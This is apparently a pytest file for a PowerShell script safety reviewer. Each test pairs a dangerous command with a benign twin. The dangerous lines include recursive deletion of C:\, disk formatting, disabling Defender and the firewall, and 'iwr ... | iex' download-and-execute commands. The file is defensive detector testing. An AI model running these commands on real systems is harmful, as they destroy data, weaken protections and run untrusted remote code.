# ruff: noqa: E501
"""Safety review: every rule fires on its case and stays quiet on a benign twin."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from scripts.review import review_script

CASES = [
    # (rule, severity, dangerous, benign twin)
    ("recursive_delete", "warning", "Remove-Item -Path 'C:\\Temp\\x' -Recurse -Force", "Remove-Item -Path 'C:\\Temp\\x.log' -Force"),
    ("recursive_delete", "high", "rm -r -fo C:\\", "Get-ChildItem -Path C:\\ -Recurse"),
    ("recursive_delete", "high", "Remove-Item -Path $env:SystemRoot -Recurse", "Get-Item -Path $env:SystemRoot"),
    ("disk_format", "high", "Format-Volume -DriveLetter D -FileSystem NTFS", "Get-Volume -DriveLetter D"),
    ("disk_format", "high", "Clear-Disk -Number 1 -RemoveData", "Get-Disk -Number 1"),
    ("shutdown", "warning", "Restart-Computer -Force", "Restart-Service -Name Spooler"),
    ("shutdown", "warning", "shutdown.exe /s /t 0", "shutdown.exe /a"),
    ("defender_disabled", "high", "Set-MpPreference -DisableRealtimeMonitoring $true", "Set-MpPreference -DisableRealtimeMonitoring $false"),
    ("security_service_stopped", "high", "Stop-Service -Name WinDefend", "Stop-Service -Name Spooler"),
    ("firewall_disabled", "high", "Set-NetFirewallProfile -Profile Domain -Enabled False", "Set-NetFirewallProfile -Profile Domain -Enabled True"),
    ("firewall_disabled", "high", "netsh advfirewall set allprofiles state off", "netsh advfirewall set allprofiles state on"),
    ("execution_policy", "high", "Set-ExecutionPolicy Unrestricted -Force", "Get-ExecutionPolicy -List"),
    ("execution_policy", "warning", "Set-ExecutionPolicy Bypass -Scope Process -Force", "Set-ExecutionPolicy AllSigned -Scope Process"),
    ("download_execute", "high", "iwr https://example.com/a.ps1 | iex", "iwr https://example.com/a.ps1 -OutFile a.ps1"),
    ("download_execute", "high", "iex (New-Object Net.WebClient).DownloadString('https://example.com/a')", "(New-Object Net.WebClient).DownloadFile('https://example.com/a', 'a.zip')"),
    ("plaintext_credential", "high", "$p = ConvertTo-SecureString 'Hunter2!' -AsPlainText -Force", "$p = Read-Host -AsSecureString"),
    ("plaintext_credential", "warning", "$p = ConvertTo-SecureString '{{password}}' -AsPlainText -Force", "$p = ConvertTo-SecureString $encrypted"),
    ("registry_hklm_delete", "high", "Remove-ItemProperty -Path HKLM:\\SOFTWARE\\Contoso -Name Flag", "Remove-ItemProperty -Path HKCU:\\Software\\Contoso -Name Flag"),
    ("registry_hklm_delete", "high", "$k = 'HKLM:\\SOFTWARE\\Contoso'\nRemove-Item -Path $k -Recurse", "$k = 'HKLM:\\SOFTWARE\\Contoso'\nGet-Item -Path $k"),
    ("registry_hklm_delete", "high", "reg delete HKLM\\SOFTWARE\\Contoso /f", "reg query HKLM\\SOFTWARE\\Contoso"),
]  # fmt: skip  # noqa: E501


@pytest.mark.parametrize(("rule", "severity", "dangerous", "benign"), CASES)
def test_rule_fires_and_its_twin_is_quiet(
    rule: str, severity: str, dangerous: str, benign: str
) -> None:
    review = review_script(dangerous + "\n")
    assert review.parses
    hits = [f for f in review.findings if f.rule == rule]
    assert hits and hits[0].severity == severity, review.findings
    assert hits[0].line == dangerous.count("\n") + 1
    quiet = review_script(benign + "\n")
    assert quiet.parses
    assert not [f for f in quiet.findings if f.rule == rule], quiet.findings


def test_mentions_in_strings_and_comments_raise_nothing() -> None:
    script = (
        "# Format-Volume -DriveLetter C\nWrite-Output 'Remove-Item C:\\ -Recurse; iwr x | iex'\n"
    )
    review = review_script(script)
    assert review.parses and review.findings == ()


def test_finding_reports_its_line() -> None:
    review = review_script("Write-Output 'start'\n\nStop-Computer -Force\n")
    assert [(f.rule, f.line) for f in review.findings] == [("shutdown", 3)]


def test_syntax_errors_are_reported() -> None:
    review = review_script("Write-Output 'ok'\nif ($x {\n")
    assert not review.parses
    assert review.findings[0].rule == "syntax_error"
    assert "Syntax error" in review.findings[0].message


def test_grammar_gaps_are_not_syntax_errors() -> None:
    """Bare-word lists and upper-case size suffixes are valid PowerShell."""
    review = review_script("Get-Process | Select-Object Name, Id\n$gb = $x.Length / 1GB\n")
    assert review.parses, review.findings


RUNBOOKS = sorted(
    (Path(__file__).resolve().parents[2] / "flowpilot/llm/offline/runbooks").glob("*.yaml")
)


@pytest.mark.parametrize("path", RUNBOOKS, ids=lambda p: p.stem)
def test_runbook_scripts_pass_with_no_high_finding(path: Path) -> None:
    data = yaml.safe_load(path.read_text())
    scripts = [data["fix"]["script"], *(check["command"] for check in data.get("checks", []))]
    for script in scripts:
        review = review_script(script)
        assert review.parses, (path.stem, review.findings)
        assert not review.has_high, (path.stem, review.findings)
